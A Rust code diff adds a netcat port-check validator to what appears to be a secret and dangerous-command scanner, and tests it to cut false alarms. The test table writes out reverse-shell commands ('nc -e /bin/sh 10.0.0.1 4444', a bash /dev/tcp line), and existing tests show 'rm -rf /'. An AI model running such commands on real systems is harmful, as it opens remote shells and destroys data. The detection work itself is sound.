@@ -55,6 +55,7 @@ pub enum Validator {
     Slack,
     StripeTest,
     RmTarget,
+    PortCheck,
     Placeholder,
     Mention,
     UsSsn,
@@ -80,7 +81,7 @@ pub enum Validator {
 }
 
 /// Every validator by its name in a pack.
-const NAMES: [(&str, Validator); 38] = [
+const NAMES: [(&str, Validator); 39] = [
     ("luhn", Validator::Luhn),
     ("iban_mod97", Validator::IbanMod97),
     ("github_checksum", Validator::GithubChecksum),
@@ -97,6 +98,7 @@ const NAMES: [(&str, Validator); 38] = [
     ("slack", Validator::Slack),
     ("stripe_test", Validator::StripeTest),
     ("rm_target", Validator::RmTarget),
+    ("port_check", Validator::PortCheck),
     ("placeholder", Validator::Placeholder),
     ("mention", Validator::Mention),
     ("us_ssn", Validator::UsSsn),
@@ -162,6 +164,7 @@ impl Validator {
                 example_if(holds(secret, b"_test_") || holds(secret, b"-test-"))
             }
             Validator::RmTarget => rm_target(evidence),
+            Validator::PortCheck => port_check(evidence.matched),
             Validator::Placeholder => example_if(is_placeholder(secret)),
             Validator::Mention => unless(is_mention(evidence)),
             Validator::UsSsn => unless(!national::ssn(secret)),
@@ -343,6 +346,16 @@ fn slack_token(secret: &[u8]) -> Verdict {
     if is_number { Verdict::Passes } else { Verdict::Silent }
 }
 
+/// Netcat that only asks whether a port is open (`-z`) carries nothing, unless it runs something, too.
+fn port_check(matched: &[u8]) -> Verdict {
+    let mut words = matched.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
+    let is_netcat = words.next().is_some_and(|word| word.to_ascii_lowercase().starts_with(b"nc"));
+    let is_short = |word: &&[u8]| word.starts_with(b"-") && !word.starts_with(b"--");
+    let options: Vec<u8> = words.filter(is_short).flatten().copied().collect();
+    let runs = [b'e', b'c'].iter().any(|option| options.contains(option));
+    if is_netcat && options.contains(&b'z') && !runs { Verdict::Fails } else { Verdict::Silent }
+}
+
 /// What is deleted: the system or a home is worth an alarm, temporary and build folders are not.
 fn rm_target(evidence: &Evidence<'_>) -> Verdict {
     const SCRATCH: [&[u8]; 8] = [
@@ -505,5 +518,20 @@ mod tests {
         }
         assert_eq!(behind("rm_target", "rm -rf /", "tm", true), Verdict::Silent);
         assert_eq!(behind("rm_target", "rm -rf ~", "", false), Verdict::Passes);
+    }
+
+    #[test]
+    fn netcat_that_only_asks_for_a_port_is_hardly_a_shell() {
+        for (command, verdict) in [
+            ("nc -zv localhost 5432", Verdict::Fails),
+            ("nc -w 3 -z db 5432", Verdict::Fails),
+            ("nc -zv -e /bin/sh 10.0.0.1 4444", Verdict::Silent),
+            ("nc -e /bin/zsh 10.0.0.1 4444", Verdict::Silent),
+            ("nc 10.0.0.1 4444", Verdict::Silent),
+            ("bash -i >& /dev/tcp/10.0.0.1/80 -z", Verdict::Silent),
+        ] {
+            let matched = command.as_bytes();
+            assert_eq!(port_check(matched), verdict, "{command}");
+        }
     }
 }
